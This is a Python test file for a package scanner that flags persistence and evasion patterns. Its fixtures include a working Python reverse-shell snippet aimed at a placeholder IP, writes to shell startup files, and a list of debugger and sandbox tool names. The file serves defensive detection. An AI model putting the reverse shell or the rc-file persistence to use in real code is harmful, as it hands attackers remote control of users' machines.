"""Path building and grading behind the persistence and evasion rules (DOU6xx)."""

from __future__ import annotations

from pathlib import Path

from douane.analysis.engine import analyse
from douane.archive import Opened
from douane.domain import Artifact, ArtifactKind, Member, Severity


def scan(files: dict[str, str]):
    members = tuple(Member(p, t.encode(), len(t.encode())) for p, t in files.items())
    opened = Opened(kind=ArtifactKind.SDIST, format="folder", members=members, issues=(), root="")
    return analyse(Artifact(path=Path("."), filename="t"), opened).findings


def rule_hits(findings, rule):
    return sorted((f.line, f.severity) for f in findings if f.rule == rule)


def test_rc_write_through_a_variable_path_is_seen():
    """Regression: `p = Path.home() / ".bashrc"; p.write_text(...)` hides the path in a name."""
    src = "from pathlib import Path\np = Path.home() / '.bashrc'\np.write_text('x')\n"
    assert rule_hits(scan({"pkg/__init__.py": src}), "DOU605") == [(3, Severity.MEDIUM)]


def test_rc_write_inside_a_function_is_low():
    src = "import os\ndef install():\n    open(os.path.expanduser('~/.zshrc'), 'a').write('x')\n"
    assert rule_hits(scan({"pkg/cli.py": src}), "DOU605") == [(3, Severity.LOW)]


def test_reading_an_rc_file_is_not_a_write():
    src = "import os\nprint(open(os.path.expanduser('~/.bashrc')).read())\n"
    assert not rule_hits(scan({"pkg/cli.py": src}), "DOU605")


def test_reverse_shell_is_reported_once_per_function():
    src = (
        "import os, socket, pty\n"
        "def f():\n"
        "    s = socket.socket(); s.connect(('192.0.2.5', 1))\n"
        "    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n"
        "    os.dup2(s.fileno(), 2)\n"
        "    pty.spawn('/bin/sh')\n"
    )
    assert rule_hits(scan({"pkg/m.py": src}), "DOU609") == [(4, Severity.CRITICAL)]


def test_sandbox_list_grows_to_high():
    names = ["wireshark", "x64dbg", "ollydbg", "procmon", "fiddler", "vmtoolsd.exe"]
    three = scan({"pkg/a.py": f"L = {names[:3]!r}\n"})
    six = scan({"pkg/a.py": f"L = {names!r}\n"})
    assert rule_hits(three, "DOU607") == [(1, Severity.MEDIUM)]
    assert rule_hits(six, "DOU607") == [(1, Severity.HIGH)]
